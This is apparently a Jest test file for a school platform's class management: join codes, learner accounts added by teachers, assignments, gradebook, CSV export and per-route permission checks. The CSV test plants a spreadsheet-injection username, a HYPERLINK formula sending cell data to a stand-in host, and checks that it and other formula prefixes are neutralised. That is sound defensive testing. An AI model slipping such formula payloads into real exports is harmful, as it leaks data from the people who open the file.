// Teachers run their classes: readable class codes (rotate, close), learners joining and leaving, learners
// added without email (one-time passwords, consent, all-or-nothing lists), assignments enrolling the class,
// the gradebook (first-attempt and best scores, verified and self-reported lab passes), its CSV, test
// statistics, the live lab view — and the permission matrix of every route that takes an id.
import { db } from "../../lib/server/db/client";
import { call } from "../support/route-client";
import { ensureOpenCampus, signinCall, solvedCaptcha, freshIp } from "./auth-fixtures";
import { makePlayerCourse } from "./player-fixtures";
import { account, as, classOf, learnerIn, school, tag, type Account, type Handler } from "./teaching-fixtures";
import { CLASS_CODE_ALPHABET, normalizeClassCode } from "../../lib/schemas/class-code";
import { csvField } from "../../lib/server/teaching/gradebook-csv";
import * as classesRoute from "../../app/api/classes/route";
import * as classRoute from "../../app/api/classes/[id]/route";
import * as codeRoute from "../../app/api/classes/[id]/code/route";
import * as learnersRoute from "../../app/api/classes/[id]/learners/route";
import * as learnerRoute from "../../app/api/classes/[id]/learners/[userId]/route";
import * as otpRoute from "../../app/api/classes/[id]/learners/[userId]/one-time-password/route";
import * as assignmentsRoute from "../../app/api/classes/[id]/assignments/route";
import * as assignmentRoute from "../../app/api/classes/[id]/assignments/[assignmentId]/route";
import * as gradebookRoute from "../../app/api/classes/[id]/gradebook/route";
import * as csvRoute from "../../app/api/classes/[id]/gradebook/csv/route";
import * as testStatsRoute from "../../app/api/classes/[id]/tests/[contentId]/route";
import * as liveRoute from "../../app/api/classes/[id]/live/[labId]/route";
import * as liveCodeRoute from "../../app/api/classes/[id]/live/[labId]/learners/[userId]/route";
import * as membershipRoute from "../../app/api/classes/[id]/membership/route";
import * as previewRoute from "../../app/api/classes/preview/route";
import * as joinRoute from "../../app/api/classes/join/route";
import * as myClassesRoute from "../../app/api/me/classes/route";
import * as myAssignmentsRoute from "../../app/api/me/assignments/route";
import * as setPasswordRoute from "../../app/api/auth/set-password/route";
import * as enrolmentsRoute from "../../app/api/enrollments/getStudentEnrollment/[id]/route";
import * as startRoute from "../../app/api/quiz/attempts/route";
import * as answerRoute from "../../app/api/quiz/attempts/[id]/answers/route";
import * as finishRoute from "../../app/api/quiz/attempts/[id]/finish/route";
import * as runReportRoute from "../../app/api/lab/run-report/route";
import * as checkPassedRoute from "../../app/api/lab/check-passed/route";

const h = (f: unknown) => f as Handler;

let schoolA: { id: number; name: string };
let schoolB: { id: number; name: string };
let teacherA: Account;
let teacherB: Account;
let adminA: Account;
let adminB: Account;
let platformAdmin: Account;

beforeAll(async () => {
  await ensureOpenCampus();
  [schoolA, schoolB] = [await school(), await school()];
  teacherA = await account("teacher", schoolA.id);
  teacherB = await account("teacher", schoolA.id);
  adminA = await account("admin", schoolA.id);
  adminB = await account("admin", schoolB.id);
  platformAdmin = await account("admin", null);
});

const preview = (code: string, ip = freshIp()) => call(h(previewRoute.GET), `/api/classes/preview?code=${encodeURIComponent(code)}`, { ip });
const join = (who: Account, code: string) => call(h(joinRoute.POST), "/api/classes/join", as(who, { method: "POST", body: { code } }));
const detail = (who: Account | null, id: number) => call(h(classRoute.GET), `/api/classes/${id}`, as(who, { params: { id: String(id) } }));

/** A published course with a 4-question test on its first lecture (correct option: the second), owned by an author. */
async function courseWithTest() {
  const author = await account("author", null);
  return makePlayerCourse({ teacherId: author.id });
}

async function takeTest(who: Account, contentId: number, assessments: { id: number }[], choices: number[]) {
  const start = await call(h(startRoute.POST), "/api/quiz/attempts", as(who, { method: "POST", body: { contentId } }));
  expect(start.status).toBe(200);
  const attemptId = start.json.attemptId as number;
  for (const [i, q] of assessments.entries()) {
    const res = await call(
      h(answerRoute.POST),
      `/api/quiz/attempts/${attemptId}/answers`,
      as(who, { method: "POST", params: { id: String(attemptId) }, body: { assessmentId: q.id, choice: choices[i] } }),
    );
    expect(res.status).toBe(200);
  }
  const fin = await call(
    h(finishRoute.POST),
    `/api/quiz/attempts/${attemptId}/finish`,
    as(who, { method: "POST", params: { id: String(attemptId) }, body: {} }),
  );
  expect(fin.status).toBe(200);
  return fin.json;
}

async function labCells(language: "python" | "java" = "python") {
  const prisma = await db();
  const labId = 800_000 + Math.floor(Math.random() * 100_000);
  const cells = [];
  for (const [i, checks] of [{ expectedOutput: "4" }, { expectedOutput: "hi" }, {}].entries()) {
    cells.push(
      await prisma.labCell.create({
        data: { labId, title: `Lab ${tag()}`, cellId: i + 1, preText: `Cell ${i + 1}`, code: "print(2+2)", language, ...checks },
        select: { id: true, cellId: true },
      }),
    );
  }
  return { labId, cells };
}

describe("classes and their codes", () => {
  it("a teacher creates a class in their school with a code easy to read aloud: 7 letters and digits, no 0/O/1/I/L", async () => {
    const cls = await classOf(teacherA, "Maths 8 B");
    expect(cls.code).toMatch(/^[A-Z2-9]{3}-[A-Z2-9]{4}$/);
    expect(
      normalizeClassCode(cls.code)
        .split("")
        .every((c) => CLASS_CODE_ALPHABET.includes(c)),
    ).toBe(true);
    expect(cls.code).not.toMatch(/[01OIL]/);
    const res = await detail(teacherA, cls.id);
    expect(res.status).toBe(200);
    expect(res.json.class).toMatchObject({
      name: "Maths 8 B",
      school: { id: schoolA.id },
      teacher: { id: teacherA.id },
      joinOpen: true,
      learners: 0,
      schoolYear: "2026-27",
    });
  });

  it("lists a teacher's own classes, an admin's school's, and every school's for an admin without one", async () => {
    const mine = await classOf(teacherA);
    const theirs = await classOf(teacherB);
    const list = async (who: Account) => ((await call(h(classesRoute.GET), "/api/classes", as(who))).json.classes as { id: number }[]).map((c) => c.id);
    expect(await list(teacherA)).toContain(mine.id);
    expect(await list(teacherA)).not.toContain(theirs.id);
    expect(await list(adminA)).toEqual(expect.arrayContaining([mine.id, theirs.id]));
    expect(await list(adminB)).not.toContain(mine.id);
    expect(await list(platformAdmin)).toEqual(expect.arrayContaining([mine.id, theirs.id]));
  });

  it("a code typed in any case, with spaces or without its hyphen, previews and joins; a learner may be in several classes", async () => {
    const cls = await classOf(teacherA, "Science 8");
    const other = await classOf(teacherB, "Computer Science 8");
    const typed = ` ${cls.code.toLowerCase().replace("-", " ")} `;
    const seen = await preview(typed);
    expect(seen.status).toBe(200);
    expect(seen.json).toEqual({ class: { name: "Science 8", school: schoolA.name, teacher: teacherA.username } });
    const learner = await account("user", 3);
    expect((await join(learner, typed)).json).toMatchObject({ message: "You joined the class.", class: { id: cls.id, school: schoolA.name } });
    expect((await join(learner, cls.code)).json.message).toBe("You are already in this class.");
    expect((await join(learner, other.code)).status).toBe(200);
    const mine = await call(h(myClassesRoute.GET), "/api/me/classes", as(learner));
    expect((mine.json.classes as { id: number }[]).map((c) => c.id).sort()).toEqual([cls.id, other.id].sort());
    // The open-campus learner became a learner of the class's school.
    expect((await (await db()).user.findUniqueOrThrow({ where: { id: learner.id }, select: { organizationId: true } })).organizationId).toBe(schoolA.id);
  });

  it("rotating the code stops the old one at once; closing the class refuses every code the same way", async () => {
    const cls = await classOf(teacherA);
    const rotated = await call(h(codeRoute.POST), `/api/classes/${cls.id}/code`, as(teacherA, { method: "POST", params: { id: String(cls.id) } }));
    expect(rotated.status).toBe(200);
    const fresh = rotated.json.class.code as string;
    expect(fresh).not.toBe(cls.code);
    const late = await account("user", 3);
    const refused = await join(late, cls.code);
    expect(refused.status).toBe(404);
    expect(refused.json.message).toBe("No class has this code. Check it with your teacher: codes have no 0, O, 1, I or L.");
    expect((await preview(cls.code)).status).toBe(404);
    expect((await join(late, fresh)).status).toBe(200);

    const closed = await call(
      h(classRoute.PATCH),
      `/api/classes/${cls.id}`,
      as(teacherA, { method: "PATCH", params: { id: String(cls.id) }, body: { joinOpen: false } }),
    );
    expect(closed.json.class.joinOpen).toBe(false);
    const another = await account("user", 3);
    const closedAnswer = await join(another, fresh);
    expect(closedAnswer.status).toBe(404);
    expect(closedAnswer.json).toEqual(refused.json);
    expect((await preview(fresh)).json).toEqual((await preview("ZZZ-ZZZZ")).json);
    await call(h(classRoute.PATCH), `/api/classes/${cls.id}`, as(teacherA, { method: "PATCH", params: { id: String(cls.id) }, body: { joinOpen: true } }));
    expect((await join(another, fresh)).status).toBe(200);
    const audit = await (await db()).auditEvent.findMany({ where: { targetClassId: cls.id }, select: { action: true, actorId: true, details: true } });
    expect(audit.map((a) => a.action)).toEqual(expect.arrayContaining(["class.created", "class.code_rotated", "class.joining_changed"]));
    // The audit trail never holds a code.
    expect(JSON.stringify(audit)).not.toContain(fresh.replace("-", ""));
  });

  it("a learner leaves a class, a teacher removes one; their enrolments stay", async () => {
    const course = await courseWithTest();
    const cls = await classOf(teacherA);
    await call(
      h(assignmentsRoute.POST),
      `/api/classes/${cls.id}/assignments`,
      as(teacherA, { method: "POST", params: { id: String(cls.id) }, body: { kind: "course", courseId: course.course.id } }),
    );
    const [leaver, removed] = [await learnerIn(cls), await learnerIn(cls)];
    const left = await call(h(membershipRoute.DELETE), `/api/classes/${cls.id}/membership`, as(leaver, { method: "DELETE", params: { id: String(cls.id) } }));
    expect(left.status).toBe(200);
    const out = await call(
      h(learnerRoute.DELETE),
      `/api/classes/${cls.id}/learners/${removed.id}`,
      as(teacherA, { method: "DELETE", params: { id: String(cls.id), userId: String(removed.id) } }),
    );
    expect(out.status).toBe(200);
    expect((await detail(teacherA, cls.id)).json.learners).toEqual([]);
    for (const who of [leaver, removed]) {
      const enrolments = await call(h(enrolmentsRoute.GET), `/api/enrollments/getStudentEnrollment/${who.id}`, as(who, { params: { id: String(who.id) } }));
      expect((enrolments.json.data as { courseId: number }[]).map((e) => e.courseId)).toContain(course.course.id);
    }
  });
});

describe("learners without email", () => {
  it("a list with a bad row is refused whole, with a report per row, and nothing is created", async () => {
    const cls = await classOf(teacherA);
    const taken = await account("user", 3);
    const res = await call(
      h(learnersRoute.POST),
      `/api/classes/${cls.id}/learners`,
      as(teacherA, {
        method: "POST",
        params: { id: String(cls.id) },
        body: {
          parentalConsent: true,
          learners: [
            { name: "Ravi Kumar" },
            { name: "Meera", email: "meera@@school" },
            { name: "<b>Bold</b>" },
            { name: "Asha", email: `${taken.username}@example.test` },
            { name: "Ravi Kumar 2", username: "ravi.k" },
            { name: "Ravi Kumar 3", username: "RAVI.K" },
          ],
        },
      }),
    );
    expect(res.status).toBe(422);
    expect(res.json.message).toBe("Nothing was added: 4 problems need fixing.");
    expect(res.json.problems).toEqual([
      { row: 2, field: "email", message: "Please enter a valid email address." },
      { row: 3, field: "name", message: "Name may contain only letters, digits, spaces and . _ - (starting with a letter or digit)." },
      { row: 4, field: "email", message: "This email already has a LearnHub account: give the learner the class code to join with it instead." },
      { row: 6, field: "username", message: "The same username is on row 5 too." },
    ]);
    expect((await detail(teacherA, cls.id)).json.learners).toEqual([]);
    expect(await (await db()).user.count({ where: { username: { startsWith: "ravi.kumar" }, createdById: teacherA.id } })).toBe(0);
  });

  it("refuses a list without the parent's consent", async () => {
    const cls = await classOf(teacherA);
    const res = await call(
      h(learnersRoute.POST),
      `/api/classes/${cls.id}/learners`,
      as(teacherA, { method: "POST", params: { id: String(cls.id) }, body: { learners: [{ name: "Kiran" }] } }),
    );
    expect(res.status).toBe(400);
    expect(res.json.message).toContain("Confirm that the school has a parent's consent for these learners.");
  });

  it("adds learners with usernames and one-time passwords; the first sign-in must choose their own password, then the sheet's no longer works", async () => {
    const cls = await classOf(teacherA);
    const res = await call(
      h(learnersRoute.POST),
      `/api/classes/${cls.id}/learners`,
      as(teacherA, {
        method: "POST",
        params: { id: String(cls.id) },
        body: { parentalConsent: true, learners: [{ name: "प्रिया शर्मा" }, { name: "Arjun Rao" }] },
      }),
    );
    expect(res.status).toBe(201);
    const [priya, arjun] = res.json.learners as { id: number; username: string; oneTimePassword: string }[];
    expect(priya!.username).toMatch(/^प्रिया\.शर्मा\.\d{3}$/);
    expect(arjun!.username).toMatch(/^arjun\.rao\.\d{3}$/);
    expect(arjun!.oneTimePassword).toMatch(/^[A-Z2-9]{4}-[A-Z2-9]{4}$/);
    const stored = await (
      await db()
    ).user.findUniqueOrThrow({
      where: { id: arjun!.id },
      select: { email: true, mustChangePassword: true, createdById: true, parentalConsentAt: true, organizationId: true, passwordHash: true },
    });
    expect(stored).toMatchObject({ email: null, mustChangePassword: true, createdById: teacherA.id, organizationId: schoolA.id });
    expect(stored.parentalConsentAt).toBeInstanceOf(Date);
    expect(stored.passwordHash).toMatch(/^\$argon2id\$/);
    expect((await detail(teacherA, cls.id)).json.learners).toEqual(
      expect.arrayContaining([expect.objectContaining({ id: arjun!.id, addedByTeacher: true, mustChangePassword: true, email: null })]),
    );

    // Sign in with the username from the sheet (the form's email field takes it).
    const first = await signinCall({ email: arjun!.username, password: arjun!.oneTimePassword, recaptcha: await solvedCaptcha() });
    expect(first.status).toBe(200);
    expect(first.json).toMatchObject({ id: arjun!.id, email: null, mustChangePassword: true });
    const pending = { "x-access-token": first.json.accessToken as string };
    // The one-time password opens nothing but choosing one's own.
    const blocked = await call(h(myClassesRoute.GET), "/api/me/classes", { headers: pending });
    expect(blocked.status).toBe(403);
    expect(blocked.json.message).toBe("Choose your own password first: the one on your class sheet works only once.");
    const weak = await call(h(setPasswordRoute.POST), "/api/auth/set-password", {
      method: "POST",
      headers: pending,
      body: { password: "password1", confirmPassword: "password1" },
    });
    expect(weak.status).toBe(400);
    const set = await call(h(setPasswordRoute.POST), "/api/auth/set-password", {
      method: "POST",
      headers: pending,
      body: { password: "Mango tree by the river 7", confirmPassword: "Mango tree by the river 7" },
    });
    expect(set.status).toBe(200);
    expect(set.json).toMatchObject({ mustChangePassword: false, message: "Your password is set. Use it from now on." });
    // The pending session ended; the new one works; the sheet's password no longer does.
    expect((await call(h(myClassesRoute.GET), "/api/me/classes", { headers: pending })).status).toBe(401);
    const mine = await call(h(myClassesRoute.GET), "/api/me/classes", { headers: { "x-access-token": set.json.accessToken } });
    expect((mine.json.classes as { id: number }[]).map((c) => c.id)).toEqual([cls.id]);
    expect((await signinCall({ email: arjun!.username, password: arjun!.oneTimePassword, recaptcha: await solvedCaptcha() })).status).toBe(401);
    expect((await signinCall({ email: arjun!.username.toUpperCase(), password: "Mango tree by the river 7", recaptcha: await solvedCaptcha() })).status).toBe(
      200,
    );
    // A new one-time password from the teacher, when a sheet is lost.
    const again = await call(
      h(otpRoute.POST),
      `/api/classes/${cls.id}/learners/${arjun!.id}/one-time-password`,
      as(teacherA, { method: "POST", params: { id: String(cls.id), userId: String(arjun!.id) } }),
    );
    expect(again.status).toBe(200);
    expect((await signinCall({ email: arjun!.username, password: again.json.oneTimePassword, recaptcha: await solvedCaptcha() })).json.mustChangePassword).toBe(
      true,
    );
  });
});

describe("assignments", () => {
  it("an assigned course enrols the class (and whoever joins later); My Learning lists assignments overdue first", async () => {
    const [a, b] = [await courseWithTest(), await courseWithTest()];
    const lab = await labCells();
    const cls = await classOf(teacherA);
    const early = await learnerIn(cls);
    const post = (body: unknown) =>
      call(h(assignmentsRoute.POST), `/api/classes/${cls.id}/assignments`, as(teacherA, { method: "POST", params: { id: String(cls.id) }, body }));
    const yesterday = new Date(Date.now() - 86_400_000).toISOString();
    const twoDaysAgo = new Date(Date.now() - 2 * 86_400_000).toISOString();
    const nextWeek = new Date(Date.now() + 7 * 86_400_000).toISOString();
    const course = await post({ kind: "course", courseId: a.course.id, dueAt: nextWeek });
    expect(course.status).toBe(201);
    expect(course.json).toMatchObject({ message: "Assigned.", enrolled: 1, assignment: { kind: "course", title: a.course.name, courseId: a.course.id } });
    const test = await post({ kind: "test", contentId: b.lecture.id, dueAt: yesterday });
    expect(test.json.assignment).toMatchObject({ kind: "test", contentId: b.lecture.id, courseId: b.course.id });
    const labAssigned = await post({ kind: "lab", labId: lab.labId });
    expect(labAssigned.json.assignment).toMatchObject({ kind: "lab", labId: lab.labId, labLanguage: "python" });
    // Again: the same item with a new due date.
    const again = await post({ kind: "course", courseId: a.course.id, dueAt: twoDaysAgo });
    expect(again.status).toBe(200);
    expect(again.json.message).toBe("The due date was changed.");
    expect((await detail(teacherA, cls.id)).json.assignments).toHaveLength(3);
    expect((await post({ kind: "course", courseId: 2_000_000_000 })).status).toBe(400);
    expect((await post({ kind: "lab", labId: 1_999_999_999 })).status).toBe(400);

    const late = await learnerIn(cls);
    for (const who of [early, late]) {
      const enrolments = await call(h(enrolmentsRoute.GET), `/api/enrollments/getStudentEnrollment/${who.id}`, as(who, { params: { id: String(who.id) } }));
      expect((enrolments.json.data as { courseId: number }[]).map((e) => e.courseId).sort()).toEqual([a.course.id, b.course.id].sort());
    }
    const mine = await call(h(myAssignmentsRoute.GET), "/api/me/assignments", as(late));
    const items = mine.json.assignments as { kind: string; overdue: boolean; done: boolean; assignedBy: string; class: { id: number } }[];
    expect(items.map((i) => [i.kind, i.overdue])).toEqual([
      ["course", true],
      ["test", true],
      ["lab", false],
    ]);
    expect(items.every((i) => i.assignedBy === teacherA.username && i.class.id === cls.id && !i.done)).toBe(true);
    const removed = await call(
      h(assignmentRoute.DELETE),
      `/api/classes/${cls.id}/assignments/${labAssigned.json.assignment.id}`,
      as(teacherA, { method: "DELETE", params: { id: String(cls.id), assignmentId: String(labAssigned.json.assignment.id) } }),
    );
    expect(removed.status).toBe(200);
    expect((await call(h(myAssignmentsRoute.GET), "/api/me/assignments", as(late))).json.assignments).toHaveLength(2);
  });
});

describe("what the teacher sees", () => {
  it("the gradebook: first-attempt and best scores, not started, behind the due date, verified vs self-reported lab passes, class averages", async () => {
    const c = await courseWithTest();
    const lab = await labCells();
    const cls = await classOf(teacherA);
    const [asha, bilal, chen] = [await learnerIn(cls, `asha-${tag()}`), await learnerIn(cls, `bilal-${tag()}`), await learnerIn(cls, `chen-${tag()}`)];
    const post = (body: unknown) =>
      call(h(assignmentsRoute.POST), `/api/classes/${cls.id}/assignments`, as(teacherA, { method: "POST", params: { id: String(cls.id) }, body }));
    await post({ kind: "test", contentId: c.lecture.id, dueAt: new Date(Date.now() - 3_600_000).toISOString() });
    await post({ kind: "lab", labId: lab.labId });
    const qs = c.lecture.assessments;
    // Option 2 is right in each question. Asha: first attempt 1/4 (only Q4), then a retry 4/4. Bilal: 2/4 (Q1, Q2).
    await takeTest(asha, c.lecture.id, qs, [1, 1, 1, 2]);
    await takeTest(asha, c.lecture.id, qs, [2, 2, 2, 2]);
    await takeTest(bilal, c.lecture.id, qs, [2, 2, 3, 4]);
    // Asha's browser says cell 1 passed (self-reported); the server verified Bilal's cell 1 (as run-java does).
    expect((await call(h(checkPassedRoute.POST), "/api/lab/check-passed", as(asha, { method: "POST", body: { id: lab.cells[0]!.id } }))).status).toBe(200);
    const { storePass } = await import("../../lib/server/labs/record-cell-pass");
    await storePass({ userId: bilal.id, cellId: lab.cells[0]!.id, verified: true });

    const res = await call(h(gradebookRoute.GET), `/api/classes/${cls.id}/gradebook`, as(teacherA, { params: { id: String(cls.id) } }));
    expect(res.status).toBe(200);
    const book = res.json as {
      items: { kind: string; total: number; average: number | null }[];
      rows: { learner: { id: number }; cells: Record<string, unknown>[]; behind: number[]; notStarted: boolean }[];
    };
    expect(book.items.map((i) => [i.kind, i.total])).toEqual([
      ["test", 4],
      ["lab", 2],
    ]);
    const row = (who: Account) => book.rows.find((r) => r.learner.id === who.id)!;
    expect(row(asha).cells).toEqual([
      { kind: "test", started: true, firstScore: 1, bestScore: 4, attempts: 2 },
      { kind: "lab", started: true, verified: 0, selfReported: 1 },
    ]);
    expect(row(bilal).cells[0]).toEqual({ kind: "test", started: true, firstScore: 2, bestScore: 2, attempts: 1 });
    expect(row(bilal).cells[1]).toEqual({ kind: "lab", started: true, verified: 1, selfReported: 0 });
    expect(row(chen).notStarted).toBe(true);
    // Past due and not passed: Chen (nothing) is behind on the test; Asha passed it on her retry, Bilal's 2/4 passes at 50%.
    expect(row(chen).behind).toHaveLength(1);
    expect(row(asha).behind).toEqual([]);
    // Averages: first-attempt test % over those with one (25% and 50%), verified lab % over the started (0% and 50%).
    expect(book.items[0]!.average).toBe(37.5);
    expect(book.items[1]!.average).toBe(25);

    const stats = await call(
      h(testStatsRoute.GET),
      `/api/classes/${cls.id}/tests/${c.lecture.id}`,
      as(teacherA, { params: { id: String(cls.id), contentId: String(c.lecture.id) } }),
    );
    expect(stats.status).toBe(200);
    expect(stats.json).toMatchObject({ attempted: 2, learners: 3 });
    const questions = stats.json.questions as {
      position: number;
      facility: number;
      answered: number;
      options: { text: string; firstChoices: number; share: number; correct: boolean }[];
    }[];
    // First attempts only (Asha's retry does not count): Q3 missed by both → 0, the others right once → 0.5; most missed first.
    expect(questions.map((q) => q.facility)).toEqual([0, 0.5, 0.5, 0.5]);
    expect(questions[0]!.position).toBe(3);
    const q1 = questions.find((q) => q.position === 1)!;
    expect(q1.answered).toBe(2);
    expect(q1.options.map((o) => [o.firstChoices, o.share, o.correct])).toEqual([
      [1, 0.5, false],
      [1, 0.5, true],
      [0, 0, false],
      [0, 0, false],
    ]);

    const report = await call(
      h(learnerRoute.GET),
      `/api/classes/${cls.id}/learners/${asha.id}`,
      as(teacherA, { params: { id: String(cls.id), userId: String(asha.id) } }),
    );
    expect(report.status).toBe(200);
    const attempts = report.json.attempts as { attemptNumber: number; score: number; answers: { firstChoice: string; firstCorrect: boolean }[] }[];
    expect(attempts.map((a) => [a.attemptNumber, a.score])).toEqual([
      [2, 4],
      [1, 1],
    ]);
    expect(attempts[1]!.answers[0]).toMatchObject({ firstChoice: qs[0]!.option1, firstCorrect: false });
    expect(report.json.labs[0].cells[0]).toMatchObject({ number: 1, checked: true, pass: "self-reported" });
  });

  it("the CSV opens in Excel and LibreOffice: UTF-8 with BOM, CRLF, names in any script, formulas neutralised", async () => {
    const c = await courseWithTest();
    const cls = await classOf(teacherA, '=Class 8 "A"');
    await call(
      h(assignmentsRoute.POST),
      `/api/classes/${cls.id}/assignments`,
      as(teacherA, { method: "POST", params: { id: String(cls.id) }, body: { kind: "course", courseId: c.course.id } }),
    );
    await learnerIn(cls, `आदित्य-${tag()}`);
    // A name from older data that a spreadsheet would run as a formula.
    const evil = await learnerIn(cls, `evil-${tag()}`);
    await (await db()).user.update({ where: { id: evil.id }, data: { username: `=HYPERLINK("http://x.example?"&A1)-${tag()}` } });
    const res = await call(h(csvRoute.GET), `/api/classes/${cls.id}/gradebook/csv`, as(teacherA, { params: { id: String(cls.id) } }));
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(res.headers.get("content-disposition")).toMatch(/^attachment; filename="gradebook-\d+\.csv"; filename\*=UTF-8''/);
    const text = res.json as unknown as string;
    expect(text.charCodeAt(0)).toBe(0xfeff);
    expect(text).toContain("\r\n");
    expect(text).toContain('"Class: =Class 8 ""A"""');
    expect(text).toMatch(/"'=HYPERLINK\(""http:\/\/x\.example\?""&A1\)-/);
    expect(text).toContain('"आदित्य-');
    expect(text.split("\r\n")[1]).toBe(`"Learner","${c.course.name} (progress)","Behind the due date on"`);
    for (const v of ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"]) expect(csvField(v).startsWith(`"'`)).toBe(true);
    expect(csvField("Asha")).toBe('"Asha"');
    expect(csvField(-1)).toBe('"-1"');
  });

  it("the live lab view shows each learner's latest run within the poll, and their newest code", async () => {
    const lab = await labCells();
    const cls = await classOf(teacherA);
    const [ravi, sara] = [await learnerIn(cls), await learnerIn(cls)];
    const report = (who: Account, body: unknown) => call(h(runReportRoute.POST), "/api/lab/run-report", as(who, { method: "POST", body }));
    expect(
      (await report(ravi, { cellId: lab.cells[1]!.id, outcome: "error", errorLine: "ZeroDivisionError: division by zero", output: "", code: "print(1/0)" }))
        .status,
    ).toBe(200);
    const live = await call(
      h(liveRoute.GET),
      `/api/classes/${cls.id}/live/${lab.labId}`,
      as(teacherA, { params: { id: String(cls.id), labId: String(lab.labId) } }),
    );
    expect(live.status).toBe(200);
    const learners = live.json.learners as { id: number; cell: number | null; outcome: string | null; errorLine: string | null; lastRunAt: string | null }[];
    expect(learners.find((l) => l.id === ravi.id)).toMatchObject({ cell: 2, outcome: "error", errorLine: "ZeroDivisionError: division by zero" });
    expect(learners.find((l) => l.id === sara.id)).toMatchObject({ cell: null, outcome: null, lastRunAt: null });
    expect(Date.parse(live.json.now) - Date.parse(learners.find((l) => l.id === ravi.id)!.lastRunAt!)).toBeLessThan(5_000);
    const code = await call(
      h(liveCodeRoute.GET),
      `/api/classes/${cls.id}/live/${lab.labId}/learners/${ravi.id}`,
      as(teacherA, { params: { id: String(cls.id), labId: String(lab.labId), userId: String(ravi.id) } }),
    );
    expect((code.json.cells as { number: number; code: string }[]).find((c) => c.number === 2)?.code).toBe("print(1/0)");
  });
});

describe("who may see and change a class (every route that takes an id)", () => {
  let cls: { id: number; code: string };
  let member: Account;
  let strangerInOtherClass: Account;
  let assignmentId: number;
  let contentId: number;
  let labId: number;

  beforeAll(async () => {
    cls = await classOf(teacherA);
    member = await learnerIn(cls);
    strangerInOtherClass = await learnerIn(await classOf(teacherA));
    const c = await courseWithTest();
    contentId = c.lecture.id;
    labId = (await labCells()).labId;
    const a = await call(
      h(assignmentsRoute.POST),
      `/api/classes/${cls.id}/assignments`,
      as(teacherA, { method: "POST", params: { id: String(cls.id) }, body: { kind: "test", contentId } }),
    );
    assignmentId = a.json.assignment.id;
  });

  type Probe = { name: string; run: (who: Account | null, learnerId?: number) => ReturnType<typeof call>; ok: number };
  const probes = (): Probe[] => {
    const id = String(cls.id);
    const p = (learnerId: number) => ({ id, userId: String(learnerId) });
    return [
      { name: "GET class", run: (w) => call(h(classRoute.GET), `/api/classes/${id}`, as(w, { params: { id } })), ok: 200 },
      {
        name: "PATCH class",
        run: (w) => call(h(classRoute.PATCH), `/api/classes/${id}`, as(w, { method: "PATCH", params: { id }, body: { schoolYear: "2026-27" } })),
        ok: 200,
      },
      { name: "gradebook", run: (w) => call(h(gradebookRoute.GET), `/api/classes/${id}/gradebook`, as(w, { params: { id } })), ok: 200 },
      { name: "gradebook CSV", run: (w) => call(h(csvRoute.GET), `/api/classes/${id}/gradebook/csv`, as(w, { params: { id } })), ok: 200 },
      {
        name: "test stats",
        run: (w) => call(h(testStatsRoute.GET), `/api/classes/${id}/tests/${contentId}`, as(w, { params: { id, contentId: String(contentId) } })),
        ok: 200,
      },
      { name: "live lab", run: (w) => call(h(liveRoute.GET), `/api/classes/${id}/live/${labId}`, as(w, { params: { id, labId: String(labId) } })), ok: 200 },
      { name: "learner's page", run: (w, l) => call(h(learnerRoute.GET), `/api/classes/${id}/learners/${l}`, as(w, { params: p(l!) })), ok: 200 },
      { name: "learner's live code", run: (w, l) => call(h(liveCodeRoute.GET), `/x`, as(w, { params: { ...p(l!), labId: String(labId) } })), ok: 200 },
      { name: "new one-time password", run: (w, l) => call(h(otpRoute.POST), `/x`, as(w, { method: "POST", params: p(l!) })), ok: 400 },
      { name: "assign", run: (w) => call(h(assignmentsRoute.POST), `/x`, as(w, { method: "POST", params: { id }, body: { kind: "lab", labId } })), ok: 201 },
      {
        name: "add learners",
        run: (w) =>
          call(h(learnersRoute.POST), `/x`, as(w, { method: "POST", params: { id }, body: { parentalConsent: true, learners: [{ name: "Probe" }] } })),
        ok: 201,
      },
      // Last: they change the class.
      {
        name: "remove assignment",
        run: (w) => call(h(assignmentRoute.DELETE), `/x`, as(w, { method: "DELETE", params: { id, assignmentId: String(assignmentId) } })),
        ok: 200,
      },
      { name: "rotate code", run: (w) => call(h(codeRoute.POST), `/x`, as(w, { method: "POST", params: { id } })), ok: 200 },
      { name: "remove learner", run: (w, l) => call(h(learnerRoute.DELETE), `/x`, as(w, { method: "DELETE", params: p(l!) })), ok: 200 },
    ];
  };

  it("another teacher of the same school, an admin of another school: 404 on every route, and nothing changes", async () => {
    for (const probe of probes()) {
      for (const who of [teacherB, adminB]) {
        const res = await probe.run(who, member.id);
        expect({ probe: probe.name, status: res.status, message: res.json.message }).toEqual({ probe: probe.name, status: 404, message: "Class not found" });
      }
    }
    expect((await detail(teacherA, cls.id)).json.learners.map((l: { id: number }) => l.id)).toEqual([member.id]);
  });

  it("a learner gets 403 and a visitor 401 on every teacher route", async () => {
    for (const probe of probes()) {
      expect({ probe: probe.name, status: (await probe.run(member, member.id)).status }).toEqual({ probe: probe.name, status: 403 });
      expect({ probe: probe.name, status: (await probe.run(null, member.id)).status }).toEqual({ probe: probe.name, status: 401 });
    }
  });

  it("the class's teacher cannot reach a learner of another class through this one", async () => {
    for (const probe of probes().filter((p) => ["learner's page", "learner's live code", "new one-time password", "remove learner"].includes(p.name))) {
      const res = await probe.run(teacherA, strangerInOtherClass.id);
      expect({ probe: probe.name, status: res.status, message: res.json.message }).toEqual({
        probe: probe.name,
        status: 404,
        message: "This learner is not in this class.",
      });
    }
  });

  it("the school's admin and a platform admin reach the class; its teacher does everything (in that order)", async () => {
    expect((await detail(adminA, cls.id)).status).toBe(200);
    expect((await detail(platformAdmin, cls.id)).status).toBe(200);
    for (const probe of probes()) {
      const res = await probe.run(teacherA, member.id);
      expect({ probe: probe.name, status: res.status }).toEqual({ probe: probe.name, status: probe.ok });
    }
  });
});

describe("the audit trail of a class sheet", () => {
  it("records who created each account and that consent was given", async () => {
    const cls = await classOf(teacherA);
    const res = await call(
      h(learnersRoute.POST),
      `/api/classes/${cls.id}/learners`,
      as(teacherA, { method: "POST", params: { id: String(cls.id) }, body: { parentalConsent: true, learners: [{ name: "Consent Check" }] } }),
    );
    const id = res.json.learners[0].id as number;
    const events = await (await db()).auditEvent.findMany({ where: { targetUserId: id }, select: { action: true, actorId: true, details: true } });
    expect(events).toEqual([{ action: "account.created_by_teacher", actorId: teacherA.id, details: { parentalConsent: true } }]);
  });
});
